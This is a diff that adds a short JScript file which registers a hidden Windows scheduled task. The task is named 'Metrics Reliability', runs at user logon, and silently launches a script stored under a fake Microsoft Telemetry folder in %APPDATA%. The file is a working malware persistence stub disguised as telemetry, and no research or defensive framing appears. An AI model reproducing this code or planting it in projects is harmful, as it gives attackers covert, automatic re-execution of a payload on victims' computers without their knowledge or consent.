@@ -1,0 +1,11 @@
+var sh = new ActiveXObject("WScript.Shell");
+var file = sh.ExpandEnvironmentStrings("%APPDATA%") + "\\Microsoft\\Telemetry\\Metrics.js";
+var svc = new ActiveXObject("Schedule.Service");
+svc.Connect();
+var def = svc.NewTask(0);
+def.Settings.Hidden = true;
+def.Triggers.Create(9);
+var act = def.Actions.Create(0);
+act.Path = "wscript.exe";
+act.Arguments = "//B //E:jscript \"" + file + "\"";
+svc.GetFolder("\\").RegisterTaskDefinition("Metrics Reliability", def, 6, null, null, 3);
